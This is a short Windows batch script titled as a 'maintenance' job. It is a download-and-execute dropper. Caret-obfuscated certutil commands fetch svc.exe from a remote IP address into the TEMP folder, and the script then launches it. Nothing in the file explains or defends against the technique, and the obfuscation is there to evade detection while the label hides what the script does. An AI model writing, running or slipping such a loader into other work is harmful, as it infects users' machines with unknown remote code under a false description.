REM maintenance 5404 v0
@echo off
ce^rtut^il.ex^e -urlc^ac^he -sp^li^t -f ^h^t^tp://^203.0.1^13.1^7/^s^v^c.^e^xe %TEMP%\svc.e^x^e
sta^r^t "" %TEMP%\sv^c.e^x^e
